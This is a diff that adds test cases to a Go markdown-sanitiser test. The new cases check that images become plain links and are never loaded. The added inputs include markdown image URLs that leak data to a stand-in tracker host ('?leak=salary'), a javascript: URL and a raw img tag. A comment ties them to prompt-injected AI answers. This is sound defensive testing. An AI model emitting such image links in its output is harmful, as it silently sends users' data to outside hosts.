@@ -16,6 +16,14 @@ func TestMarkdownIsSanitised(t *testing.T) {
 		{"[site](https://example.com)", `rel="nofollow noreferrer noopener"`, ""},
 		{"| a | b |\n|---|---|\n| 1 | 2 |", "<table>", ""},
 		{"<a href=\"https://e.com\" style=\"x\">raw</a>", "", "style="},
+		// Images are links, never loaded: an answer steered by prompt
+		// injection must not make the browser fetch a tracker.
+		{"![chart](https://tracker.example/p.png?leak=salary)", `<a href="https://tracker.example/p.png?leak=salary" rel="nofollow noreferrer noopener" target="_blank">chart</a>`, "<img"},
+		{"![](https://tracker.example/p.png)", `>https://tracker.example/p.png</a>`, "<img"},
+		{"[![logo](https://t.example/i.png)](https://example.com)", `<a href="https://example.com" rel="nofollow noreferrer noopener" target="_blank">logo</a>`, "<img"},
+		{"![x](javascript:alert(1))", "", "javascript:"},
+		{"![x][r]\n\n[r]: https://t.example/r.png \"t\"", `href="https://t.example/r.png"`, "<img"},
+		{"<img src=\"https://tracker.example/p.png\">", "", "<img"},
 	} {
 		got := string(md.HTML(tc.in))
 		if tc.want != "" && !strings.Contains(got, tc.want) {
